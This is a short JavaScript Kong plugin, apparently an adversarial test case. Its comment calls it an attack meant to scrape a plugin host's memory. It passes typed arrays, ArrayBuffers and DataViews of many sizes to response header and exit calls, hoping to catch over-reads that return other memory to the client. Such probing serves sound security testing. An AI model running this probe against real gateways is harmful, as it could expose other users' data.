// Attack: scrape the shard's memory through Kong. Typed arrays that are not Uint8Array (and
// ArrayBuffers, DataViews) of many sizes as PDK arguments: if the host wrote more bytes than the
// array holds, what Kong (and so the attacker's HTTP client) gets back is someone else's memory.
class Plugin {
  async access(kong) {
    for (const n of [1, 3, 8, 16, 40, 64, 100, 256, 1000, 4096, 20000]) {
      await kong.response.setHeader('x-f64', new Float64Array(n));
      await kong.response.setHeader('x-u32', new Uint32Array(n));
      await kong.response.setHeader('x-i16', new Int16Array(n));
      await kong.response.setHeader('x-dv', new DataView(new ArrayBuffer(n)));
    }
    await kong.response.exit(200, new Float64Array(65536));
  }
}
module.exports = { Plugin, Version: '1.0.0', Priority: 1 };
